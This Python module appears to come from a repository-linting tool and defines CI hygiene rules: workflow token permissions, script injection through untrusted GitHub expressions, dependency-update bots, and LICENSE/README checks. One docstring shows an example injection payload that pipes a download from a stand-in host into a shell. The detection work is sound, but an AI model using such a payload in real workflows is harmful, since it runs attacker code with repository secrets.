"""GA: CI hygiene — least-privilege workflow tokens, no script injection, dependency updates, LICENSE and README."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from fsdl_check.model import Finding, Rule, Severity
from fsdl_check.parsing.tomlfile import TomlDoc
from fsdl_check.parsing.workflow import Workflow
from fsdl_check.parsing.yamlfile import LineDict
from fsdl_check.repo import Repo


def key_line(mapping: Any, key: str, default: int = 1) -> int:
    return mapping.line_of(key) if isinstance(mapping, LineDict) and key in mapping else default


class WorkflowPermissions(Rule):
    """GitHub workflows restrict their token's permissions

    Without a `permissions:` block the `GITHUB_TOKEN` gets the repository's default scope, often write access to
    code, packages and releases; a compromised action or dependency in a test job can then push to the
    repository. Declare `permissions: contents: read` at the top and widen it only in the job that needs more.
    """

    code, severity = "GA001", Severity.WARNING
    security_severity = 7.0  # code scanning's score (high at 7+, critical at 9+)
    fix = "Add `permissions: {contents: read}` at the top; see the template's `.github/workflows/ci.yml`."
    template_file = ".github/workflows/ci.yml"
    example = "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest  # no permissions: anywhere"

    def check(self, workflows: list[Workflow]) -> Iterator[Finding]:
        for workflow in workflows:
            if workflow.provider != "github" or not workflow.data:
                continue
            data = workflow.data
            if "permissions" in data:
                if data["permissions"] == "write-all":
                    yield self.finding(workflow.path, key_line(data, "permissions"), "permissions: write-all")
                continue
            jobs = workflow.jobs
            loose = [name for name, job in jobs.items() if "permissions" not in job]
            for name, job in jobs.items():
                if job.get("permissions") == "write-all":
                    yield self.finding(workflow.path, key_line(job, "permissions"), f"job {name} has write-all")
            if loose:
                listed = ", ".join(loose[:3]) + (", ..." if len(loose) > 3 else "")
                yield self.finding(
                    workflow.path, key_line(data, "on"), f"no top-level `permissions:` (and none on job {listed})"
                )


#: `${{ ... }}` expressions whose value an outside contributor controls (titles, bodies, branch names, ...).
UNTRUSTED_EXPRESSION = re.compile(
    r"""\$\{\{[^}]*?\b(
        github\.head_ref
      | github\.event\.[\w.*\[\]'"-]*?\.(?:title|body|message|label|email|page_name|default_branch|head_branch)\b
      | github\.event\.[\w.*\[\]'"-]*?(?:head\.ref|author\.name|committer\.name)\b
    )""",
    re.VERBOSE,
)
PR_HEAD = re.compile(r"github\.event\.pull_request\.head|github\.head_ref")


class UntrustedInput(Rule):
    """Workflows neither check out pull-request code under `pull_request_target` nor interpolate untrusted input

    `pull_request_target` runs with a write token and the repository's secrets; checking out the pull request's
    head there runs a stranger's code with both. And `${{ github.event.issue.title }}` (or a PR body, a branch
    name, a commit message) pasted into `run:` is shell injection: a title like `"; curl evil | sh #` runs. Pass
    such values through `env:` and quote them, and keep untrusted code under `pull_request`.
    """

    code, severity = "GA002", Severity.ERROR
    security_severity = 8.8  # code scanning's score (high at 7+, critical at 9+)
    fix = (
        'Move the expression into `env:` and use `"$VAR"` in the script; run PR code under `pull_request`. '
        "See the template's `.github/workflows/ci.yml`."
    )
    template_file = ".github/workflows/ci.yml"
    example = 'on: issues\njobs:\n  triage:\n    steps:\n      - run: echo "${{ github.event.issue.title }}"'

    def check(self, workflows: list[Workflow]) -> Iterator[Finding]:
        for workflow in workflows:
            if workflow.provider != "github":
                continue
            target = "pull_request_target" in workflow.triggers
            for step in workflow.steps:
                with_ = step.with_ or {}
                if target and step.uses and step.uses.startswith("actions/checkout"):
                    ref = with_.get("ref")
                    if isinstance(ref, str) and PR_HEAD.search(ref):
                        yield self.finding(workflow.path, step.line, "pull_request_target checks out the PR head")
                script = step.run
                if script is None and step.uses and step.uses.startswith("actions/github-script"):
                    script = str(with_.get("script", ""))
                match = UNTRUSTED_EXPRESSION.search(script or "")
                if match:
                    yield self.finding(workflow.path, step.line, f"`{match[1]}` interpolated into a script")


DEPENDENCY_BOTS = (
    ".github/dependabot.yml", ".github/dependabot.yaml", "renovate.json", "renovate.json5", ".renovaterc",
    ".renovaterc.json", ".renovaterc.json5", ".github/renovate.json", ".github/renovate.json5",
    ".gitlab/renovate.json", ".gitlab/renovate.json5",
)  # fmt: skip


class DependencyUpdates(Rule):
    """A dependency update tool is configured (Dependabot or Renovate)

    Pinned dependencies and locked actions are only safe while someone bumps them: security fixes in PyTorch,
    Lightning or a GitHub action never arrive otherwise. Dependabot or Renovate opens the update pull requests,
    and CI tells whether they break the training code.
    """

    code, severity = "GA003", Severity.INFO
    fix = "Add `.github/dependabot.yml` for pip and github-actions; see the template's `.github/dependabot.yml`."
    template_file = ".github/dependabot.yml"

    def check(self, repo: Repo) -> Iterator[Finding]:
        if repo.has(*DEPENDENCY_BOTS) is None:
            yield self.finding(".github/dependabot.yml", None, "no Dependabot or Renovate configuration")


LICENSE_NAMES = re.compile(r"(LICEN[CS]E|COPYING)([.-][\w.-]+)?", re.IGNORECASE)
README_NAMES = re.compile(r"README(\.(md|rst|txt|markdown))?", re.IGNORECASE)


class LicenseAndReadme(Rule):
    """The repository has a LICENSE and a README

    Without a license nobody may legally use, modify or share the code or the models trained with it; without a
    README nobody knows how to install it, train it or reproduce its results. Both are the first files a user,
    a reviewer or a package index looks for.
    """

    code, severity = "GA004", Severity.WARNING
    fix = "Add a LICENSE file and a README.md; see the template's `LICENSE` and `README.md`."
    template_file = "LICENSE"

    def check(self, repo: Repo, pyproject: TomlDoc | None) -> Iterator[Finding]:
        top_level = [p for p in repo.paths if "/" not in p]
        declared = pyproject is not None and (
            pyproject.get("project.license") is not None or pyproject.get("project.license-files") is not None
        )
        if not declared and not any(LICENSE_NAMES.fullmatch(p) for p in top_level):
            yield self.finding("LICENSE", None, "no LICENSE file and no `license` in [project]")
        if not any(README_NAMES.fullmatch(p) for p in top_level):
            yield self.finding("README.md", None, "no README")
